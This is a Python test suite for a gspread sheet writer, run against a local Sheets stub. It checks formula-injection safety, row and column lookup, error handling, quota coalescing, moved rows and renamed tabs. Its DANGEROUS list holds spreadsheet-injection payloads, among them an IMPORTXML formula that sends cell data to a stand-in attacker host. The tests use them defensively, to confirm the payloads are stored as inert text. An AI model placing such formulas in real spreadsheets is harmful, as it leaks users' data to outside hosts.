"""Row writes through gspread against the Sheets protocol stub (in process).

What reaches the stub is what Google would receive: the tests read back how
the stub stored each cell (text or formula) and count its reads and writes.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, cast

import gspread
import pytest
import requests
from gspread.utils import ValueInputOption

from devstack.sheets_stub import Store
from devstack.stack import sheets_client
from shared.adapters.sheet_coalescer import SheetCoalescer
from shared.adapters.sheets import GspreadSheetWriter
from shared.adapters.throttle import Backoff, WriteLimiter
from shared.contracts.links import LinkSigner
from shared.contracts.sheet_row import Formula, Text, row_cells
from shared.domain import lifecycle
from shared.domain.errors import MissingWorksheet, PermanentError, RowMoved, TransientError
from shared.domain.job import JobState
from shared.services.ports import RowUpdate
from shared.services.sheet_sync import SheetSync
from tests.fakes import T0, FakeClock, FakeJobStore, make_job, mark_done
from tests.stubs import new_spreadsheet, serving_sheets, sheets_url

HEADER = ["scene_id", "prompt", "status_img", "nano_img_1", "nano_img_2", "job_id", "error_img"]
# Text that USER_ENTERED would turn into a formula, a number, a boolean or an
# escape, and the CSV-injection starters tab and carriage return.
DANGEROUS = [
    '=HYPERLINK("https://evil.example","click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'quoted",
    "0042",
    "TRUE",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
]


@dataclass
class Stub:
    url: str
    store: Store
    spreadsheet_id: str

    def stats(self) -> dict[str, Any]:
        answer: dict[str, Any] = requests.get(f"{self.url}/_stub/stats", timeout=5).json()
        return answer

    def reset(self) -> None:
        requests.post(f"{self.url}/_stub/reset_stats", timeout=5).raise_for_status()

    def control(self, what: str, body: dict[str, Any]) -> None:
        requests.post(f"{self.url}/_stub/{what}", json=body, timeout=5).raise_for_status()

    def stored(self, worksheet: str, row: int, column: str) -> tuple[str, Any] | None:
        """How the stub keeps a cell: ("f", formula) or ("v", value)."""
        with self.store.lock:
            sheet = self.store.books[self.spreadsheet_id].sheet_by_title(worksheet)
            assert sheet is not None
            return sheet.cells.get((row - 1, HEADER.index(column)))


def client(url: str) -> gspread.Client:
    return cast(gspread.Client, sheets_client(url))


@pytest.fixture
def stub() -> Iterator[Stub]:
    with serving_sheets() as server:
        url = sheets_url(server)
        sid = new_spreadsheet(url, columns=len(HEADER))
        rows = [HEADER] + [[f"sc-{i:03d}", f"prompt {i}"] for i in range(1, 121)]
        client(url).open_by_key(sid).worksheet("Scenes").update(
            rows, "A1", value_input_option=ValueInputOption.raw
        )
        yield Stub(url, server.store, sid)


@pytest.fixture
def writer(stub: Stub) -> GspreadSheetWriter:
    return GspreadSheetWriter(client(stub.url))


# --------------------------------------------------------------------------- injection


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_is_stored_as_text_never_as_formula(
    stub: Stub, writer: GspreadSheetWriter, text: str
) -> None:
    writer.write_row(
        stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text(text), "error_img": Text(text)}
    )
    assert stub.stored("Scenes", 2, "status_img") == ("v", text)
    assert stub.stored("Scenes", 2, "error_img") == ("v", text)
    shown = client(stub.url).open_by_key(stub.spreadsheet_id).worksheet("Scenes")
    assert shown.acell("C2", value_render_option="FORMULA").value == text  # type: ignore[arg-type]


def test_our_formula_is_stored_as_formula(stub: Stub, writer: GspreadSheetWriter) -> None:
    formula = '=IMAGE("https://api.example.test/assets/job_1/1?size=thumb&sig=abc")'
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"nano_img_1": Formula(formula)})
    assert stub.stored("Scenes", 2, "nano_img_1") == ("f", formula)


@pytest.mark.parametrize("text", DANGEROUS)
def test_user_and_error_texts_of_a_job_reach_the_sheet_as_text(
    stub: Stub, writer: GspreadSheetWriter, text: str
) -> None:
    # Scene ids are validated (a letter or digit first), so a hostile one never
    # reaches a cell; prompts are not written by us; error texts are, inside
    # the status and in error_img, whatever a model or a URL put in them.
    one_failed, _ = lifecycle.variant_failed(
        make_job(prompt=text, variant_count=2, started_at=T0), 1, text, T0
    )
    assert one_failed is not None
    job, _ = lifecycle.fail_job(one_failed, text, T0)
    assert job is not None and job.state == JobState.FAILED
    store = FakeJobStore()
    store.add(job.model_copy(update={"spreadsheet_id": stub.spreadsheet_id}))
    SheetSync(store, writer, LinkSigner("k", "https://api.example.test")).sync("job_1")
    status = stub.stored("Scenes", 2, "status_img")
    error = stub.stored("Scenes", 2, "error_img")
    assert status == ("v", f"failed: variant 1: {text}; variant 2: {text}")
    assert error == ("v", f"variant 1: {text}; variant 2: {text}")
    assert stub.stored("Scenes", 2, "prompt") == ("v", "prompt 1")  # untouched


# --------------------------------------------------------------------------- rows and columns


def test_columns_are_found_by_header_name(stub: Stub, writer: GspreadSheetWriter) -> None:
    note = writer.write_row(
        stub.spreadsheet_id,
        "Scenes",
        "sc-007",
        {"status_img": Text("completed"), "job_id": Text("job_7"), "nano_img_2": Formula("=1")},
    )
    assert note is None
    assert stub.stored("Scenes", 8, "status_img") == ("v", "completed")
    assert stub.stored("Scenes", 8, "job_id") == ("v", "job_7")
    assert stub.stored("Scenes", 8, "nano_img_2") == ("f", "=1")


def test_one_read_and_one_write_per_row_update(stub: Stub, writer: GspreadSheetWriter) -> None:
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("a")})
    stub.reset()
    for i in range(1, 6):
        writer.write_row(stub.spreadsheet_id, "Scenes", f"sc-{i:03d}", {"status_img": Text("b")})
    stats = stub.stats()
    assert stats["reads"] == 5
    assert stats["write_calls"] == {"values.batchUpdate": 5}


def test_missing_optional_column_is_skipped_and_others_noted(
    stub: Stub, writer: GspreadSheetWriter
) -> None:
    note = writer.write_row(
        stub.spreadsheet_id,
        "Scenes",
        "sc-001",
        {"status_img": Text("ok"), "nano_img_4": Formula("=1"), "error_img": Text("")},
    )
    assert note == "worksheet 'Scenes' has no column nano_img_4"
    assert stub.stored("Scenes", 2, "status_img") == ("v", "ok")


def test_missing_row_is_a_permanent_error(stub: Stub, writer: GspreadSheetWriter) -> None:
    with pytest.raises(PermanentError, match="no row with scene_id 'sc-999'"):
        writer.write_row(stub.spreadsheet_id, "Scenes", "sc-999", {"status_img": Text("x")})


def test_deleted_status_column_is_a_permanent_error(stub: Stub, writer: GspreadSheetWriter) -> None:
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("x")})
    sheet = client(stub.url).open_by_key(stub.spreadsheet_id).worksheet("Scenes")
    sheet.delete_columns(HEADER.index("status_img") + 1)
    with pytest.raises(PermanentError, match="has no column status_img"):
        writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("y")})


def test_moved_column_is_followed(stub: Stub, writer: GspreadSheetWriter) -> None:
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("x")})
    sheet = client(stub.url).open_by_key(stub.spreadsheet_id).worksheet("Scenes")
    sheet.insert_cols([["notes"]], 1)  # every column moves one to the right
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-002", {"status_img": Text("moved")})
    assert sheet.cell(3, HEADER.index("status_img") + 2).value == "moved"


def test_missing_worksheet_is_a_permanent_error(stub: Stub, writer: GspreadSheetWriter) -> None:
    with pytest.raises(PermanentError, match="no worksheet 'Gone'"):
        writer.write_row(stub.spreadsheet_id, "Gone", "sc-001", {"status_img": Text("x")})


def test_unshared_or_unknown_spreadsheet_is_a_permanent_error(
    stub: Stub, writer: GspreadSheetWriter
) -> None:
    stub.control("access", {"spreadsheetId": stub.spreadsheet_id, "allowed": False})
    with pytest.raises(PermanentError, match=r"not shared with the service account.*403"):
        writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("x")})
    with pytest.raises(PermanentError, match=r"not shared with the service account.*404"):
        writer.write_row("no-such-sheet", "Scenes", "sc-001", {"status_img": Text("x")})


def test_quota_and_server_errors_are_transient(stub: Stub, writer: GspreadSheetWriter) -> None:
    stub.control("quota", {"write_quota_per_minute": 1})
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("x")})
    with pytest.raises(TransientError, match="429"):
        writer.write_row(stub.spreadsheet_id, "Scenes", "sc-002", {"status_img": Text("x")})
    assert stub.stats()["rejected_writes"] == 1


def test_many_rows_in_one_write_and_a_bad_row_keeps_no_other_out(
    stub: Stub, writer: GspreadSheetWriter
) -> None:
    updates = [RowUpdate("Scenes", f"sc-{i:03d}", {"status_img": Text(f"s{i}")}) for i in (1, 2)]
    updates.insert(1, RowUpdate("Scenes", "sc-999", {"status_img": Text("nope")}))
    updates.append(RowUpdate("Gone", "sc-001", {"status_img": Text("nope")}))
    stub.reset()
    results = writer.write_rows(stub.spreadsheet_id, updates)
    assert [r.error is None for r in results] == [True, False, True, False]
    assert "sc-999" in str(results[1].error) and "Gone" in str(results[3].error)
    assert stub.stored("Scenes", 2, "status_img") == ("v", "s1")
    assert stub.stored("Scenes", 3, "status_img") == ("v", "s2")
    assert stub.stats()["write_calls"] == {"values.batchUpdate": 1}


# --------------------------------------------------------------------------- coalesced


def test_a_burst_of_finishing_jobs_fits_the_write_quota(stub: Stub) -> None:
    """100 jobs finishing at once through one instance's SheetSync: no 429, few writes."""
    stub.control("quota", {"write_quota_per_minute": 60})
    clock = FakeClock()
    coalescer = SheetCoalescer(
        GspreadSheetWriter(client(stub.url)),
        WriteLimiter(60),
        window_s=0.25,
        timeout_s=60,
        backoff=Backoff(),
    )
    links = LinkSigner("k", "https://api.example.test")
    store = FakeJobStore()
    for i in range(1, 101):
        job = make_job(
            job_id=f"job_{i}",
            scene_id=f"sc-{i:03d}",
            spreadsheet_id=stub.spreadsheet_id,
            variant_count=1,
            started_at=T0,
            state=JobState.COMPLETED,
            finished_at=T0,
        )
        mark_done(job, 1)
        store.add(job)
    sync = SheetSync(store, coalescer, links, clock=clock)
    stub.reset()
    start = threading.Barrier(20)

    def finish(ids: list[int]) -> None:
        start.wait(timeout=10)
        for i in ids:
            sync.sync(f"job_{i}")

    threads = [
        threading.Thread(target=finish, args=(list(range(t + 1, 101, 20)),)) for t in range(20)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)

    stats = stub.stats()
    assert stats["rejected_writes"] == 0
    assert stats["write_calls"]["values.batchUpdate"] <= 20  # far below one per job
    for i in range(1, 101):
        assert stub.stored("Scenes", i + 1, "status_img") == ("v", "completed")
        assert store.job(f"job_{i}").sheet_digest is not None
    cells = row_cells(store.job("job_1"), links)
    assert stub.stored("Scenes", 2, "nano_img_1") == ("f", cells["nano_img_1"].value)


# --------------------------------------------------------------------------- rows that move


def between_read_and_write(writer: GspreadSheetWriter, change: Any) -> None:
    """A collaborator acts once, after the writer found its row and before it writes."""
    http = writer._http
    real = http.values_batch_update
    done: list[bool] = []

    def hooked(*args: Any, **kwargs: Any) -> Any:
        if not done:
            done.append(True)
            change()
        return real(*args, **kwargs)

    http.values_batch_update = hooked  # type: ignore[method-assign]


def sheet_of(stub: Stub) -> gspread.Worksheet:
    return client(stub.url).open_by_key(stub.spreadsheet_id).worksheet("Scenes")


def test_a_row_inserted_between_read_and_write_is_caught_and_the_blank_row_cleared(
    stub: Stub, writer: GspreadSheetWriter
) -> None:
    sheet = sheet_of(stub)
    between_read_and_write(writer, lambda: sheet.insert_row([], 2))
    with pytest.raises(RowMoved) as caught:
        writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("done")})
    assert caught.value.landed_in == ()
    assert stub.stored("Scenes", 2, "status_img") is None  # the new blank row: taken back
    assert stub.stored("Scenes", 3, "scene_id") == ("v", "sc-001")
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("done")})
    assert stub.stored("Scenes", 3, "status_img") == ("v", "done")  # written where it is now


def test_a_sort_between_read_and_write_names_the_row_that_got_the_cells(
    stub: Stub, writer: GspreadSheetWriter
) -> None:
    sheet = sheet_of(stub)
    sort = {
        "sortRange": {
            "range": {"sheetId": sheet.id, "startRowIndex": 1, "endRowIndex": 121},
            "sortSpecs": [{"dimensionIndex": 0, "sortOrder": "DESCENDING"}],
        }
    }
    between_read_and_write(writer, lambda: sheet.spreadsheet.batch_update({"requests": [sort]}))
    with pytest.raises(RowMoved) as caught:
        writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("done")})
    assert (caught.value.scene_id, caught.value.landed_in) == ("sc-001", ("sc-120",))
    assert stub.stored("Scenes", 2, "scene_id") == ("v", "sc-120")
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("done")})
    assert stub.stored("Scenes", 121, "scene_id") == ("v", "sc-001")
    assert stub.stored("Scenes", 121, "status_img") == ("v", "done")


def test_a_row_write_clears_the_image_cells_it_does_not_fill(
    stub: Stub, writer: GspreadSheetWriter
) -> None:
    two = {"nano_img_1": Formula('=IMAGE("https://a/1")'), "nano_img_2": Formula('=IMAGE("b")')}
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("a"), **two})
    one = {"nano_img_1": Formula('=IMAGE("https://b/1")')}
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("b"), **one})
    assert stub.stored("Scenes", 2, "nano_img_1") == ("f", '=IMAGE("https://b/1")')
    assert stub.stored("Scenes", 2, "nano_img_2") is None
    assert stub.stored("Scenes", 2, "prompt") == ("v", "prompt 1")  # not ours: untouched


# --------------------------------------------------------------------------- tabs


def test_rows_follow_their_tab_through_a_rename_never_to_a_tab_given_its_old_name(
    stub: Stub, writer: GspreadSheetWriter
) -> None:
    book = client(stub.url).open_by_key(stub.spreadsheet_id)
    original = book.worksheet("Scenes")
    tab = writer.layout(stub.spreadsheet_id, "Scenes").sheet_id
    assert tab == original.id
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("a")}, tab)
    # The team renames the tab and gives its old name to a copy with the same rows.
    original.update_title("Scenes (June)")
    copy = book.duplicate_sheet(original.id, new_sheet_name="Scenes")
    writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("b")}, tab)
    assert original.acell("C2").value == "b"
    assert copy.acell("C2").value == "a"  # the copy keeps what it was copied with
    book.del_worksheet(original)
    with pytest.raises(MissingWorksheet, match="was deleted"):
        writer.write_row(stub.spreadsheet_id, "Scenes", "sc-001", {"status_img": Text("c")}, tab)
